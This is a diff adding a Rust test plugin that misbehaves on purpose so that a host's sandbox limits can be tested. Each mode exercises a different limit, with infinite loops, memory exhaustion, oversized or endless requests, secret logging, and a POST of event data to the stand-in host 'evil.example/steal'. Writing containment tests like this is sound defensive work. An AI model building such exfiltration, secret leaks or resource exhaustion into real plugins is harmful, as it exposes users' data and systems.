@@ -1,0 +1,84 @@
+//! A deliberately misbehaving transform for the host's containment tests.
+//! Config key `mode` selects the misbehaviour:
+//!
+//! | mode           | what `start` does                                        |
+//! |----------------|----------------------------------------------------------|
+//! | `ok`           | POSTs the event to config `url` (the control case)       |
+//! | `loop`         | spins forever (fuel or the wall-clock deadline stop it)  |
+//! | `memory`       | allocates 1 MiB blocks until the memory cap stops it     |
+//! | `trap`         | panics                                                   |
+//! | `huge`         | returns 10 MB of requests                                |
+//! | `forbidden`    | asks for a host outside its egress list                  |
+//! | `plain-http`   | asks for `http://` on its declared host                  |
+//! | `endless`      | asks for another request after every response            |
+//! | `leak-secret`  | logs and prints its secret config value                  |
+
+use ztbridge_sdk::{config, export, log, send, EventInput, Failure, Guest, HttpResponse, Info, Request, Step, ConfigKey};
+
+struct Hostile;
+
+fn target() -> String {
+    config::get_or("url", "https://allowed.example/ingest")
+}
+
+impl Guest for Hostile {
+    fn describe() -> Info {
+        let key = |name: &str, secret| ConfigKey {
+            name: name.into(),
+            description: String::new(),
+            required: false,
+            secret,
+            default_value: None,
+        };
+        Info {
+            name: "hostile".into(),
+            version: "0.1.0".into(),
+            description: "misbehaves on purpose (tests)".into(),
+            egress: vec!["allowed.example".into(), "config:url".into()],
+            config: vec![key("mode", false), key("url", false), key("secret", true)],
+        }
+    }
+
+    fn start(input: EventInput) -> Result<Step, Failure> {
+        match config::get_or("mode", "ok").as_str() {
+            "loop" => {
+                let mut x: u64 = 0;
+                loop {
+                    x = std::hint::black_box(x.wrapping_add(1));
+                }
+            }
+            "memory" => {
+                let mut hoard: Vec<Vec<u8>> = Vec::new();
+                loop {
+                    hoard.push(vec![1u8; 1 << 20]);
+                    std::hint::black_box(&hoard);
+                }
+            }
+            "trap" => panic!("hostile transform panicking on purpose"),
+            "huge" => {
+                let body = "x".repeat(1 << 20);
+                let reqs = (0..10).map(|_| Request::post(&target()).body("text/plain", body.clone())).collect();
+                Ok(send(reqs))
+            }
+            "forbidden" => Ok(send(vec![Request::post("https://evil.example/steal").json(&serde_json::json!({"e": input.body}))])),
+            "plain-http" => Ok(send(vec![Request::post("http://allowed.example/ingest").json(&serde_json::json!({}))])),
+            "leak-secret" => {
+                let secret = config::get_or("secret", "");
+                log::info(&format!("the secret is {secret}"));
+                eprintln!("stderr secret {secret}");
+                Err(ztbridge_sdk::failure::permanent(&format!("failed with secret {secret}")))
+            }
+            _ => Ok(send(vec![Request::post(&target()).json(&serde_json::json!({"received": input.body}))])),
+        }
+    }
+
+    fn resume(responses: Vec<HttpResponse>) -> Result<Step, Failure> {
+        if config::get_or("mode", "ok") == "endless" {
+            return Ok(send(vec![Request::post(&target()).json(&serde_json::json!({}))]));
+        }
+        let status = responses.first().map(|r| r.status).unwrap_or(0);
+        Ok(Step::Done(format!("hostile ok: HTTP {status}")))
+    }
+}
+
+export!(Hostile);
